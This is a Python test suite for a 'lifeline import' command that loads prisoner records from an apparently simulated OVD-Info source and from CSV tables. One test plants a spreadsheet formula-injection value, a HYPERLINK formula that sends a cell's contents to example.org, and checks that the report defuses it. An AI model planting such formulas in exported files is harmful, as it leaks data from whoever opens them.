"""`lifeline import …` as it is typed, against a source with a bad day."""

import contextlib
import csv
import json
import os
import pty
import re
import subprocess
from pathlib import Path

import pytest
from sqlmodel import select

from app.database import Database
from app.models import Prisoner
from tests.importing.bringing import VERA
from tests.serving import LIFELINE, environment
from tests.standins import source
from tests.standins.ovdinfo import OvdInfo

SOURCE = source.make(seed=5, people=60, cases=80, places=8)


def typed(settings: dict[str, str], *words: str) -> "subprocess.CompletedProcess[str]":
    command = [LIFELINE, "import", *words]
    return subprocess.run(
        command, env=environment(settings), check=False, capture_output=True, text=True
    )


def people(database: Database) -> int:
    with database.read() as session:
        return len(session.exec(select(Prisoner)).all())


def test_first_a_report_then_applied_and_nothing_doubled(
    database: Database, process_settings: dict[str, str], tmp_path: Path
) -> None:
    with OvdInfo(SOURCE) as api:
        api.behave("429", "500", "cut")
        settings = process_settings | {"ovdinfo_url": api.url, "ovdinfo_pause_seconds": "0.001"}
        report = tmp_path / "report.csv"
        first = typed(settings, "ovdinfo", "--report", str(report))
        assert first.returncode == 0, first.stderr
        assert f"{SOURCE.expected['new.person']}" in first.stdout
        assert "Nothing is changed yet." in first.stdout
        assert "/desk/catalogue/imports/" in first.stdout
        assert people(database) == 0
        with report.open(encoding="utf-8-sig", newline="") as file:
            kinds = [row["kind"] for row in csv.DictReader(file)]
        assert kinds.count("doubtful") == SOURCE.expected["doubtful"]

        second = typed(settings, "ovdinfo", "--full", "--apply")
        assert "Applied." in second.stdout, second.stderr
        assert any("subset=full" in path for path in api.requests)
        assert people(database) == SOURCE.expected["new.person"]
        third = typed(settings, "ovdinfo", "--apply")
        assert "new people" not in third.stdout
        assert people(database) == SOURCE.expected["new.person"]
    assert not list((Path(settings["data_dir"]) / "imports").glob("*/*"))


def test_saved_files_and_tables(
    database: Database, process_settings: dict[str, str], tmp_path: Path
) -> None:
    (tmp_path / "data.json").write_text(json.dumps(SOURCE.data))
    (tmp_path / "locations.json").write_text(json.dumps(SOURCE.locations))
    files = [
        word
        for name in ("data", "locations")
        for word in ("--file", str(tmp_path / f"{name}.json"))
    ]
    report = tmp_path / "report.json"
    done = typed(process_settings, "ovdinfo", *files, "--apply", "--report", str(report))
    assert "Applied." in done.stdout, done.stderr
    said = done.stderr.splitlines()
    assert [line for line in said if line.endswith("…")] == [
        "Reading …",
        "Comparing with the catalogue, and writing the report …",
        "Applying …",
    ]
    assert len(said) == 6  # nothing but a beginning and an end of each
    assert "\x1b" not in done.stderr
    assert len(json.loads(report.read_text())) > SOURCE.expected["new.person"]
    before = people(database)

    (tmp_path / "list.csv").write_text("ФИО,Год\nПолевая Вера Ильинична,1990\n")
    mapping = tmp_path / "list.toml"
    mapping.write_text(
        'source = "list"\nlabel = "A list"\n[columns]\nname = "ФИО"\nbirth_year = "Год"\n'
    )
    table = ("table", str(tmp_path / "list.csv"), "--mapping", str(mapping))
    done = typed(process_settings, *table, "--apply")
    assert "Applied." in done.stdout
    assert ", 1 of 1" in done.stderr
    assert people(database) == before + 1


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_a_formula_in_somebodys_list_is_words_in_the_report(
    database: Database, process_settings: dict[str, str], tmp_path: Path
) -> None:
    formula = '=HYPERLINK("https://example.org/?"&A1)'
    row = VERA | {"person_id": formula}
    (tmp_path / "data.json").write_text(json.dumps({"data": [row]}))
    report = tmp_path / "report.csv"
    words = ("--file", str(tmp_path / "data.json"), "--report", str(report))
    done = typed(process_settings, "ovdinfo", *words)
    assert done.returncode == 0, done.stderr
    with report.open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert not [cell for cell in cells if cell.startswith("=")]


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_a_terminal_shows_how_far_it_is(
    database: Database, process_settings: dict[str, str], tmp_path: Path
) -> None:
    (tmp_path / "data.json").write_text(json.dumps(SOURCE.data))
    ours, theirs = pty.openpty()
    command = [LIFELINE, "import", "ovdinfo", "--file", str(tmp_path / "data.json")]
    env = environment(process_settings) | {"TERM": "xterm", "COLUMNS": "120"}
    done = subprocess.run(command, env=env, check=False, stdout=subprocess.PIPE, stderr=theirs)
    os.close(theirs)
    screen = b""
    with contextlib.suppress(OSError):  # Linux ends a terminal so
        while piece := os.read(ours, 65_536):
            screen += piece
    os.close(ours)
    assert done.returncode == 0
    shown = re.sub(r"\x1b\[[0-9;?]*[A-Za-z]", "", screen.decode())
    for words in ("Reading", "Comparing with the catalogue, and writing the report"):
        assert re.search(rf"{words} ━+ (\d+)/\1 ", shown), words


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_what_cannot_be_read_is_said_in_plain_words(
    database: Database, process_settings: dict[str, str], tmp_path: Path
) -> None:
    (tmp_path / "other.csv").write_text("a,b\n1,2\n")
    wrong = typed(process_settings, "ovdinfo", "--file", str(tmp_path / "other.csv"))
    assert wrong.returncode == 1
    assert "neither people nor places" in wrong.stderr
    assert "Traceback" not in wrong.stderr
    hasty = process_settings | {"ovdinfo_pause_seconds": "0.5"}
    assert "asks for two at least" in typed(hasty, "ovdinfo").stderr


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_before_there_is_a_database_it_says_what_to_do(
    process_settings: dict[str, str], tmp_path: Path
) -> None:
    (tmp_path / "data.json").write_text(json.dumps(SOURCE.data))
    nowhere = process_settings | {"data_dir": str(tmp_path / "none")}
    del nowhere["database_url"]
    done = typed(nowhere, "ovdinfo", "--file", str(tmp_path / "data.json"))
    assert done.returncode == 1
    assert "lifeline migrate" in done.stderr
    assert "Traceback" not in done.stderr
